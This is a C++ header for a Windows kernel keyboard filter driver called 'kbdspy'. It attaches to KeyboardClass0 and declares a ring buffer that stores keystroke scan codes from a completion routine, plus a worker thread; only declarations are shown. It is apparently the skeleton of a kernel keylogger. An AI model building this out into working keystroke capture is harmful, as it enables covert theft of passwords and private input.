#pragma once
#include <ntddk.h>
#include <ntddkbd.h>

#define KS_TAG      'ypSK'
#define KS_TARGET   L"\\Device\\KeyboardClass0"
#define KS_RING     256

#define KS_LOG(fmt, ...) DbgPrintEx(DPFLTR_IHVDRIVER_ID, DPFLTR_INFO_LEVEL, "[kbdspy] " fmt "\n", ##__VA_ARGS__)

namespace ks {

struct Stroke {
    USHORT MakeCode;
    USHORT Flags;
};

class Spy {
public:
    // filter device
    static PDEVICE_OBJECT Filter;
    static PDEVICE_OBJECT Lower;
    static volatile LONG  Pending;

    // ring buffer filled from the completion routine
    static Stroke     Ring[KS_RING];
    static ULONG      Head, Tail;
    static KSPIN_LOCK RingLock;
    static KEVENT     Wake;

    // worker
    static PETHREAD   Thread;
    static bool       Stop;

    static void     InitState();
    static void     Push(USHORT make, USHORT flags);
    static bool     Pop(Stroke& out);
    static NTSTATUS StartWorker();
    static void     StopWorker();
};

} // namespace ks
